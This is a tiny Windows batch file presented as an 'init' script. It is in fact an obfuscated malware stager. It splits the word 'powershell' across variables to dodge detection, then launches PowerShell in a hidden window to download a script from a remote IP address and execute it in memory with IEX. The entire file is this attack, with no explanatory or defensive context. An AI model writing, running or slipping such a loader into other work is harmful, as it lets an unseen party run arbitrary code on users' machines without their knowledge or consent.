REM init 3331 v2
@echo off
setlocal EnableDelayedExpansion
set hcc0=powershe
set yit1=ll -nop
set tpa2= -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')"
!hcc0!!yit1!!tpa2!
